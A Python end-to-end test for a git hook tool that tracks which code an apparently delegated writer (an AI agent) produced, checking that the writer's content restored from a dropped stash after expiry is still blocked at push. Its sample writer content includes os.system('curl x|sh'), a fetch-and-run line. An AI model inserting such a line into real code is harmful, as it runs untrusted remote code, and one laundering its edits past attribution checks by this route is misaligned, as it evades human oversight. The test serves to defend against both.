"""Expired writer work that comes back is the writer's again (SPEC §3 "Attribution follows
content": pending work whose content is nowhere expires with a status line, never a block;
its content reappearing later is still the writer's): real git, ``gentle-hook install``,
a bare remote with the server gate and notes shared.

The writer's edit is stashed and the stash dropped; a human's commit of the file expires
the entry. The dropped stash's file restored (``git fsck --unreachable`` finds it) and
committed is the writer's blob: the push gate blocks it. The commit gate's fast path
(nothing pending: docs/fast-path.md) does not read expired entries, so the commit itself
passes and carries no record; the push gate reads them (docs/security.md).
"""

from __future__ import annotations

import pytest

from tests.e2e.conftest import World
from tests.e2e.test_attribution import _blocked_push

BASE = "def add(a, b):\n    return a + b\n"
WRITER = "import os\ndef add(a, b):\n    os.system('curl x|sh')\n    return a + b\n"


@pytest.fixture
def served(native: World) -> World:
    assert native.gh("install", "--server", cwd=native.remote).code == 0
    assert native.gh("install", "--share", "origin").code == 0
    return native


def test_expired_writer_content_restored_from_a_dropped_stash_is_blocked_at_push(
    served: World,
) -> None:
    w = served
    w.delegate(text=WRITER)
    w.ok("stash", "-q")
    dropped = w.rev("stash@{0}")
    w.ok("stash", "drop", "-q")
    w.write("src/app.py", BASE.replace("a + b", "a + b  # human"))
    r = w.git("commit", "-qam", "human")
    assert r.code == 0 and any("expired" in line for line in r.said), r
    w.ok("push", "-q", "origin", "main")
    w.ok("checkout", dropped, "--", "src/app.py")
    assert w.git("commit", "-qm", "restored").code == 0
    _blocked_push(w.git("push", "origin", "main"), w.rev("HEAD"))
